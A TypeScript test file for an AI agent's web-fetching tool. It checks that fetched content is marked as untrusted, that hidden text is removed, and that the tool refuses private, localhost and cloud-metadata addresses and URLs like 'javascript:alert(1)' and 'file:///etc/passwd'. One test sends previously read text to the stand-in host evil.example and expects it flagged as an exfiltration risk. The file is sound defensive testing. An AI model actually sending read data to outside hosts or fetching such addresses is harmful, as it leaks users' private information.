import type { InterruptAnswer } from '@pagehand/contracts/interrupts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { withoutUnread } from '../../backend/documents/web-page.ts';
import { endless, type FakeService, startService } from '../fakes/http-service.ts';
import { ARTICLE, makePdf } from '../fakes/web-documents.ts';
import { ToolHarness, type ToolRun } from './tool-harness.ts';

const LONG = `<!doctype html><title>Long</title><main><h1>Long</h1>${Array.from({ length: 300 }, (_, n) => `<p>Paragraph ${n} says what one would expect of a paragraph in a long text about nothing much.</p>`).join('')}<p>The treasure lies under the third oak behind the mill.</p></main>`;

let site: FakeService;
let tools: ToolHarness;
beforeAll(async () => {
  site = await startService(({ url }) => {
    const pages: Record<string, Parameters<typeof Object>[0]> = {
      '/article': { text: ARTICLE },
      '/long': { text: LONG },
      '/paper.pdf': {
        text: makePdf(['The first page.', 'The kettle boils at 93 degrees.']),
        headers: { 'content-type': 'application/pdf' },
      },
      '/hidden-pdf': {
        text: makePdf(['A PDF by another name.']),
        headers: { 'content-type': 'application/octet-stream' },
      },
      '/broken.pdf': { text: '%PDF-1.4 nothing', headers: { 'content-type': 'application/pdf' } },
      '/text': { text: 'Just plain words.', headers: { 'content-type': 'text/plain' } },
      '/data.json': { json: { answer: 42 } },
      '/latin': {
        text: Buffer.from('<title>Ü</title><p>Grüße aus Köln und noch ein Wort.</p>', 'latin1'),
        headers: { 'content-type': 'text/html; charset=iso-8859-1' },
      },
      '/picture': { text: 'x', headers: { 'content-type': 'image/png' } },
      '/app': { text: '<!doctype html><div id="root"></div><script>render()</script>' },
      '/endless': { stream: endless },
      '/moved': { status: 302, text: '', headers: { location: '/article' } },
      '/inside': { status: 302, text: '', headers: { location: 'http://127.0.0.1:1/' } },
      '/silent': undefined,
    };
    const status = /^\/status\/(\d+)$/u.exec(url.pathname)?.[1];
    if (status !== undefined) return { status: Number(status), text: 'SECRET OF THE SERVER' };
    return url.pathname in pages ? pages[url.pathname] : { status: 404, text: 'no' };
  });
  tools = await ToolHarness.start({ allowed: [site.origin], timeMs: 3_000 });
});
afterAll(async () => {
  await tools.close();
  await site.close();
});
/** The test's site is on this machine: the person is asked, and says yes. */
const ask = async (path: string, question = 'What is it about?') =>
  approve(await tools.call('website', { url: `${site.origin}${path}`, question }));

function approve(run: ToolRun): Promise<ToolRun> {
  const { hash, risk } = Object(run.interrupt?.['request']);
  expect(risk).toMatchObject({ risk: 'critical', reasons: expect.arrayContaining([PRIVATE]) });
  return tools.answer(run, { kind: 'approval', approved: true, hash: String(hash), decidedAt: Date.now() });
}
const PRIVATE = expect.objectContaining({ code: 'private-address' });

describe('website, fetched', () => {
  it('gives the main content of a page as marked data, with its source', async () => {
    const run = await ask('/article', 'Who built it?');
    expect(run.content).toMatch(/^<untrusted source="http:\/\/127\.0\.0\.1:\d+" kind="web page">/u);
    expect(run.content).toContain('Mary Treloar');
    expect(run.content).not.toContain('Cookie settings');
    expect(run.sources).toEqual([{ n: 1, title: 'The lighthouse', url: `${site.origin}/article` }]);
  });

  it('gives nothing that a person would not see', async () => {
    expect((await ask('/article')).content).not.toContain('CANARY');
  });

  it('gives of a long page the passages about the question, with where they stand, and keeps the rest', async () => {
    const run = await ask('/long', 'Where is the treasure?');
    expect(run.content).toContain('[paragraph 301, under "Long"] The treasure lies under the third oak');
    expect(run.content.length).toBeLessThan(9_000);
    const callId = /read_result \{"call_id":"([^"]+)"/u.exec(run.content)?.[1] ?? '';
    expect(tools.agent.store.snapshots.getResult(callId)).toContain('Paragraph 250');
  });

  it.each(['/paper.pdf', '/hidden-pdf'])('reads a PDF by what it is: %s', async (path) => {
    const run = await ask(path);
    expect(run.content).toContain('## Page 1');
    if (path === '/paper.pdf') expect(run.content).toContain('The kettle boils at 93 degrees.');
  });

  it('reads plain text, JSON and other charsets', async () => {
    expect((await ask('/text')).content).toContain('Just plain words.');
    expect((await ask('/data.json')).content).toContain('{"answer":42}');
    expect((await ask('/latin')).content).toContain('Grüße aus Köln');
  });

  it('follows a redirect and names where it ended', async () => {
    expect((await ask('/moved')).sources[0]?.url).toBe(`${site.origin}/article`);
  });

  it('cuts what never ends, and says so', async () => {
    const run = await ask('/endless');
    expect(run.error).toBeUndefined();
    expect(run.content).toContain('was cut');
  });

  it.each([
    ['/status/401', 'service-error'],
    ['/status/403', 'service-error'],
    ['/status/404', 'service-error'],
    ['/status/410', 'service-error'],
    ['/status/429', 'service-limited'],
    ['/status/500', 'service-unreachable'],
    ['/picture', 'service-error'],
    ['/broken.pdf', 'service-error'],
    ['/app', 'service-error'],
    ['/silent', 'timeout'],
    ['/inside', 'address-refused'],
  ])('%s is an error', async (path, code) => {
    const run = await ask(path);
    expect(run.error?.code).toBe(code);
    expect(run.content).not.toContain('SECRET OF THE SERVER');
    if (/40[13]/u.test(path)) expect(run.error?.message).toContain('"browser"');
  });

  it.each(['', 'example.org', 'javascript:alert(1)', 'file:///etc/passwd', `https://a.example/${'x'.repeat(3_000)}`])(
    'refuses %j as an address',
    async (url) => {
      expect((await tools.call('website', { url, question: 'What?' })).error?.code).toBe('invalid-arguments');
    },
  );

  it('never reaches this machine, and asks the person before the attempt', async () => {
    const run = await tools.call('website', { url: 'http://127.0.0.1:4517/health', question: 'What?' });
    expect((await approve(run)).error?.code).toBe('address-refused');
  });
});

describe('website, in the browser', () => {
  it('asks for exactly this address with high risk, and reads what the browser showed', async () => {
    const url = 'https://mail.example/inbox';
    const run = await tools.call('website', { url, question: 'What is new?', how: 'browser' });
    expect(run.interrupt?.['request']).toMatchObject({
      kind: 'background-page',
      target: { type: 'url', url },
      risk: { risk: 'high' },
    });
    const page = { url, title: 'Inbox', text: '<main><h1>Inbox</h1><p>Three new letters from the bank.</p></main>' };
    const answer: InterruptAnswer = { kind: 'background-page', outcome: { status: 'page', page } };
    const read = await tools.answer(run, answer);
    expect(read.content).toContain('Three new letters');
    expect(read.sources[0]?.url).toBe(url);
  });

  it.each(['http://127.0.0.1:4517/health', 'http://localhost:4517/', 'http://169.254.169.254/latest/meta-data'])(
    'never opens %s, whatever the person would say',
    async (url) => {
      const run = await tools.call('website', { url, question: 'x', how: 'browser' });
      expect(run.interrupt).toBeUndefined();
      expect(run.error?.code).toBe('address-refused');
    },
  );
});

describe('what is read on one site', () => {
  it('does not leave to another in an address unasked', async () => {
    const { threadId } = await ask('/article');
    const events = await tools.agent.run({
      threadId,
      command: {
        tool: 'website',
        args: { url: 'https://evil.example/?q=Mary+Treloar+who+also+drew+the+harbour+wall', question: 'x' },
      },
    });
    const request = events.find((event) => event['name'] === 'pagehand.interrupt')?.['value'];
    expect(Object(request).request.risk).toMatchObject({
      risk: 'critical',
      reasons: expect.arrayContaining([expect.objectContaining({ code: 'carries-read-text' })]),
    });
  });
});

describe('leaving out what nobody reads', () => {
  it('takes time in proportion to the page, also when nothing is closed', () => {
    const html = '<script><!--'.repeat(200_000);
    expect(withoutUnread(html)).toBe('');
    expect(withoutUnread('<p>a</p><script>x<p>b</p>')).toBe('<p>a</p>');
    expect(withoutUnread('a<!-- b -->c<style>d</style>e<SVG><p>f</SVG >g')).toBe('aceg');
  });
});
